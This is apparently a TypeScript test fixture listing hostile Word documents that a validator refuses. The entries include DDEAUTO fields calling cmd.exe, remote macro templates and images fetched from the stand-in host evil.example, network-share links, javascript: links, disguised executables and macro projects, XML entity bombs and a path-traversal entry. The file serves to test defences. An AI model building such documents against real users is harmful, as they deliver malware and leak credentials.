/** Word documents of every kind that is refused, each with what it is. */
import {
  docx,
  docxParts,
  docxWithText,
  relation,
  relationsPart,
  remoteRelation,
  textPart,
  typesPart,
  zip,
} from '../documents';
import type { Hostile } from './pdfs';

const run = (content: string) => `<w:r>${content}</w:r>`;
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const instruction = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);

/** A document with a field of these pieces. */
const field = (...pieces: string[]): Buffer =>
  docxWithText(
    `${mark('begin')}${pieces.map(instruction).join('')}${mark('separate')}${run('<w:t>x</w:t>')}${mark('end')}`,
  );

const within = (paragraph: string) => docxWithText(paragraph);
const override = (part: string, type: string) => `<Override PartName="/${part}" ContentType="${type}"/>`;

/** A document with one more part, whose type is named. */
const withPart = (name: string, content: Buffer | string, type: string): Buffer =>
  zip([typesPart(undefined, override(name, type)), ...docxParts().slice(1), { name, content }]);

const related = (type: string, target: string, mode?: string) =>
  docx([relationsPart(relation(type, target, mode))]);

const VML = 'urn:schemas-microsoft-com:vml';
const PROGRAM = Buffer.from('MZ\u0090\u0000program', 'latin1');

export const hostileDocx: Hostile[] = [
  ...[
    'DDEAUTO c:\\\\windows\\\\cmd.exe',
    'DDE x y',
    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
    'INCLUDETEXT "\\\\\\\\host\\\\a"',
  ].map((text): Hostile => [`a field ${text.split(' ')[0] ?? ''}`, field(` ${text} `)]),
  ...[
    'LINK Excel.Sheet.8 "a"',
    'IMPORT a',
    'DATABASE \\d "a"',
    'RD a',
    'AUTOTEXT x',
    'MACROBUTTON AutoOpen x',
    'PRINT x',
    'EMBED Package',
    'QUOTE 68 68 69',
    'CONTROL x',
  ].map((text): Hostile => [`a field ${text.split(' ')[0] ?? ''}`, field(` ${text} `)]),
  ['a field whose name is cut into pieces', field(' DD', 'EAU', 'TO c:\\\\cmd.exe')],
  [
    'a field whose name another field makes',
    within(
      `${mark('begin')}${mark('begin')}${instruction(' REF x ')}${mark('separate')}${run('<w:t>DDEAUTO</w:t>')}${mark('end')}${instruction(' cmd')}${mark('end')}`,
    ),
  ],
  [
    'a field whose name is written as text',
    within(`${mark('begin')}${run('<w:t>DDEAUTO cmd</w:t>')}${mark('end')}`),
  ],
  ['a field that never ends', within(`${mark('begin')}${instruction(' DDEAUTO cmd ')}`)],
  ['a simple field that fetches', within('<w:fldSimple w:instr=" INCLUDEPICTURE x "/>')],
  ['a field in small letters', field(' ddeauto cmd ')],
  ['a link to a file in a field', field(' HYPERLINK "file:///c:/a.exe" ')],
  ['a link to a share in a field', field(' HYPERLINK "\\\\\\\\host\\\\share" ')],
  [
    'a macro when a field of a form is left',
    within(run('<w:fldChar w:fldCharType="begin"><w:ffData><w:exitMacro w:val="x"/></w:ffData></w:fldChar>')),
  ],
  ['an object of another program', within(run('<w:object/>'))],
  ['a control', within(run('<w:control w:name="x"/>'))],
  ['another document that is put in', within('<w:altChunk/>')],
  ['a document that is part of it', within('<w:subDoc/>')],
  [
    'an old drawing that names its picture',
    within(run(`<w:pict><v:imagedata xmlns:v="${VML}" src="https://evil.example/a.png"/></w:pict>`)),
  ],
  [
    'an old drawing that links to a share',
    within(run(`<w:pict><v:rect xmlns:v="${VML}" href="\\\\host\\share"/></w:pict>`)),
  ],
  ['a film from the web', within('<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe&gt;"/>')],
  [
    'data that are merged into letters',
    withPart(
      'word/settings.xml',
      '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge/></w:settings>',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml',
    ),
  ],
  ...[
    'attachedTemplate',
    'oleObject',
    'frame',
    'subDocument',
    'aFChunk',
    'image',
    'header',
    'video',
    'mailMergeSource',
    'IMAGE',
    'x',
  ].map((kind): Hostile => [`an outside ${kind}`, docx([remoteRelation(kind)])]),
  [
    'a template from elsewhere, written with character references',
    docx([remoteRelation('attached&#84;emplate')]),
  ],
  [
    'a template from elsewhere that says it lies inside',
    related('attachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="Internal"'),
  ],
  [
    'a template from elsewhere that does not say where it lies',
    related('attachedTemplate', 'https://evil.example/a.dotm', ''),
  ],
  ['a template on a share', docx([remoteRelation('attachedTemplate', 'file://host/share/a.dotx')])],
  [
    'a template on a share, with more slashes',
    docx([remoteRelation('attachedTemplate', 'file:////host/share/a.dotx')]),
  ],
  [
    'a template on a share, behind a local disk',
    docx([remoteRelation('attachedTemplate', 'file:///C:\\..\\..\\\\host\\a.dotx')]),
  ],
  [
    'a template with macros on a local disk',
    docx([remoteRelation('attachedTemplate', 'file:///C:\\a.dotm')]),
  ],
  ['a link to a file', docx([remoteRelation('hyperlink', 'file:///c:/a.exe')])],
  ['a link to a share', docx([remoteRelation('hyperlink', '\\\\host\\share')])],
  ['a link to a help file', docx([remoteRelation('hyperlink', 'mhtml:https://evil.example/a!x-usc:x')])],
  ['a link that is a script', docx([remoteRelation('hyperlink', 'javascript:alert(1)')])],
  ['a relation in another mode', related('hyperlink', 'https://evil.example', 'TargetMode="external"')],
  ['a relation that leaves the archive', related('image', '../../a.png', '')],
  ['a relation to a share', related('image', '//host/a.png', '')],
  [
    'a relation of a type by somebody else',
    related('http://evil.example/relationships/image', 'media/a.png', ''),
  ],
  [
    'a package in another folder',
    withPart('word/media/data.docx', zip([]), 'application/vnd.openxmlformats-officedocument.package'),
  ],
  ['a macro project', withPart('word/vbaProject.bin', 'x', 'application/vnd.ms-office.vbaProject')],
  [
    'a macro project under another name',
    withPart('word/theme.xml', 'x', 'application/vnd.ms-office.vbaProject'),
  ],
  ['macros by its type', docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml')],
  [
    'a type that only character references show',
    docx([], 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
  ],
  ['a program', withPart('word/media/a.exe', PROGRAM, 'image/png')],
  ['a program that is called a picture', withPart('word/media/a.png', PROGRAM, 'image/png')],
  ['a program that is called XML', withPart('word/a.xml', PROGRAM, 'application/xml')],
  [
    'a program that is called a font',
    withPart(
      'word/fonts/a.odttf',
      Buffer.alloc(99, PROGRAM),
      'application/vnd.openxmlformats-officedocument.obfuscatedFont',
    ),
  ],
  ['a part without a type', docx([{ name: 'word/a.js', content: 'x' }])],
  [
    'a part of a spreadsheet',
    withPart(
      'xl/workbook.xml',
      '<x/>',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
    ),
  ],
  [
    'an add-in from the web',
    withPart('word/webextensions/webextension1.xml', '<x/>', 'application/vnd.ms-office.webextension+xml'),
  ],
  [
    'a drawing with a script',
    withPart('word/media/a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', 'image/svg+xml'),
  ],
  [
    'a drawing that loads a picture',
    withPart(
      'word/media/a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>',
      'image/svg+xml',
    ),
  ],
  [
    'two main documents',
    withPart(
      'word/other.xml',
      String(textPart().content),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
    ),
  ],
  [
    'a document type',
    zip([
      ...docxParts().slice(0, 2),
      { name: 'word/document.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x/>' },
    ]),
  ],
  ['a document type in a part beside', docx([{ name: 'word/a.xml', content: '<!DOCTYPE x><x/>' }])],
  [
    'an entity of its own',
    zip([...docxParts().slice(0, 2), { name: 'word/document.xml', content: '<x>&a;</x>' }]),
  ],
  [
    'XML in an encoding that it has not',
    docx([{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="utf-7"?><x/>' }]),
  ],
  ['XML that is not well-formed', docx([{ name: 'word/a.xml', content: '<x>' }])],
  [
    'XML with a sheet of styles that runs',
    docx([{ name: 'word/a.xml', content: '<?xml-stylesheet href="a.xsl" type="text/xsl"?><x/>' }]),
  ],
  ['XML of a hundred thousand levels', docx([{ name: 'word/a.xml', content: '<x>'.repeat(100_000) }])],
  ['a PDF in front of its parts', zip([{ name: '%PDF-1.7', content: 'x' }, ...docxParts()])],
  ['a part that grows beyond bounds', docx([{ name: 'word/a.xml', content: Buffer.alloc(40_000_000) }])],
  [
    'a part that is packed a thousandfold',
    docx([{ name: 'word/a.xml', content: `<x>${' '.repeat(5_000_000)}</x>` }]),
  ],
  ['an encrypted part', docx([{ name: 'word/x.xml', content: '<x/>', flags: 1 }])],
  ['two names for a part', docx([{ name: 'word/a.xml', content: '<x/>', localName: 'word/b.xml' }])],
  ['a part twice', docx([{ name: 'WORD/document.xml', content: '<x/>' }])],
  ['a part outside of the archive', docx([{ name: '../../etc/passwd', content: '<x/>' }])],
];
